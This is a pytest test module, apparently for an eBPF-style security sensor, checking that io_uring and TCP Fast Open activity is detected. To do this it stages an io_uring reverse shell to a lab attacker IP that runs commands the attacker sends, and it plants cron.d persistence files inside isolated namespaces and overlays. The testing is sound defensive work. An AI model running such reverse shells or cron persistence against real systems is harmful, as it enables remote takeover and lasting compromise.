"""io_uring requests give the same events as the syscalls (flagged io_uring, with the submitting process,
SQPOLL included), and a TCP connect that no connect call explains is still reported.

The requests come from fixtures/uring.c (raw io_uring_setup/io_uring_enter), built here with gcc. Network
traffic stays in the netns lab; file writes happen in a private mount namespace over overlays."""

from __future__ import annotations

import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from agent.events import FLAG_IO_URING, FLAG_SOCK_STATE, Connect, FileWrite
from tests.helpers.live import skip_or_fail
from tests.live.supplychain import run_in_overlays

FIXTURE = Path(__file__).parent / "fixtures" / "uring.c"


@pytest.fixture(scope="module")
def uring(tmp_path_factory) -> Path:
    """The helper, compiled once per module."""
    gcc = shutil.which("gcc")
    if gcc is None:
        skip_or_fail("the io_uring helper is a C program built with gcc, which is not installed")
    exe = tmp_path_factory.mktemp("uring") / "uring"
    subprocess.run([gcc, "-O2", "-Wall", "-o", str(exe), str(FIXTURE)], check=True, capture_output=True, timeout=60)
    return exe


def _require_uring(sensorlab) -> None:
    if not sensorlab.sensor.program.features.io_uring_submit:
        skip_or_fail("this kernel has no io_uring submission tracepoint")


@pytest.mark.parametrize("sqpoll", [False, True], ids=["enter", "sqpoll"])
def test_io_uring_connect_reverse_shell_alerts(sensorlab, netlab, uring, sqpoll) -> None:
    """An io_uring CONNECT reverse shell gives one connect event (flagged io_uring, from the helper's process,
    with the destination) and an alert with the right destination."""
    _require_uring(sensorlab)
    port = netlab.port()
    host = netlab.attacker_ip4
    listener = netlab.listen_tcp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))\nexit\n", duration=10)
    mark, alert_mark = sensorlab.mark(), sensorlab.alert_mark()
    argv = [str(uring), *(["--sqpoll"] if sqpoll else []), "connect", host, str(port)]
    out = netlab.run(netlab.victim_ns, argv, timeout=15)
    pid = int(out.stdout.split()[1])
    assert b"cw-42" in listener.wait(timeout=15)  # the shell ran the attacker's command
    connects = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark)
    assert [(e.pid, e.daddr, e.dport, e.transport, bool(e.flags & FLAG_IO_URING)) for e in connects] == [
        (pid, host, port, "tcp", True)
    ]
    alerts = sensorlab.alerts_since(alert_mark)
    mine = [a for a in alerts if a.get("destination") == {"ip": host, "port": port}]
    assert mine, [(a["rule"]["name"], a.get("destination")) for a in alerts]
    assert all(a["process"]["pid"] == pid for a in mine)


@pytest.mark.parametrize("sqpoll", [False, True], ids=["enter", "sqpoll"])
def test_io_uring_openat_of_cron_d_is_persistence(sensorlab, uring, tmp_path, sqpoll) -> None:
    """An io_uring OPENAT of /etc/cron.d/x (private overlay) gives one file_write event with the resolved path,
    flagged io_uring, from the submitting process; a rename, link and symlink into cron.d give one each."""
    _require_uring(sensorlab)
    flag = "--sqpoll " if sqpoll else ""
    script = f"""
        set -e
        mkdir -p /etc/cron.d
        cd /etc/cron.d
        {uring} {flag}open cw-uring-open
        {uring} {flag}open /etc/cw-uring-staged
        {uring} {flag}rename /etc/cw-uring-staged cw-uring-renamed
        {uring} {flag}link cw-uring-renamed /etc/cron.d/cw-uring-linked
        {uring} {flag}symlink /bin/true ../cron.d/cw-uring-symlinked
    """
    mark = sensorlab.mark()
    shell, done = run_in_overlays(tmp_path, script, ["/etc"])
    pids = {int(line.split()[1]) for line in done.stdout.splitlines() if line.startswith("pid ")}
    assert len(pids) == 5, done.stdout
    want = {
        ("/etc/cron.d/cw-uring-open", "open"),
        ("/etc/cron.d/cw-uring-renamed", "rename"),
        ("/etc/cron.d/cw-uring-linked", "link"),
        ("/etc/cron.d/cw-uring-symlinked", "symlink"),
    }
    events = sensorlab.wait_for(lambda e: isinstance(e, FileWrite) and e.pid in pids, count=len(want), since=mark)
    got = [(e.path, e.operation) for e in events]
    assert sorted(got) == sorted(want), got
    assert all(e.flags & FLAG_IO_URING for e in events)


TFO = textwrap.dedent("""
    import socket, sys
    s = socket.socket()  # blocking (the netlab run is bounded): a timeout would make sendto non-blocking
    s.sendto(b"chainwatch", socket.MSG_FASTOPEN, (sys.argv[1], int(sys.argv[2])))
    print(__import__("os").getpid(), flush=True)
    s.close()
""")


def test_tcp_connect_without_connect_call_is_reported(sensorlab, netlab) -> None:
    """A TCP Fast Open sendto (no connect call) is reported from the socket's SYN_SENT, flagged so; a plain
    connect gives one event, not a second one from its SYN_SENT."""
    if not sensorlab.sensor.program.features.sock_state:
        skip_or_fail("this kernel has no sock:inet_sock_set_state tracepoint")
    port = netlab.port()
    host = netlab.attacker_ip4
    listener = netlab.listen_tcp(netlab.attacker_ns, port, duration=10)
    mark = sensorlab.mark()
    out = netlab.run(netlab.victim_ns, [sys.executable, "-c", TFO, host, str(port)], timeout=15, check=True)
    pid = int(out.stdout.split()[0])
    assert b"chainwatch" in listener.wait(timeout=15)
    connects = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark)
    assert [(e.pid, e.daddr, e.transport, bool(e.flags & FLAG_SOCK_STATE)) for e in connects] == [
        (pid, host, "tcp", True)
    ]
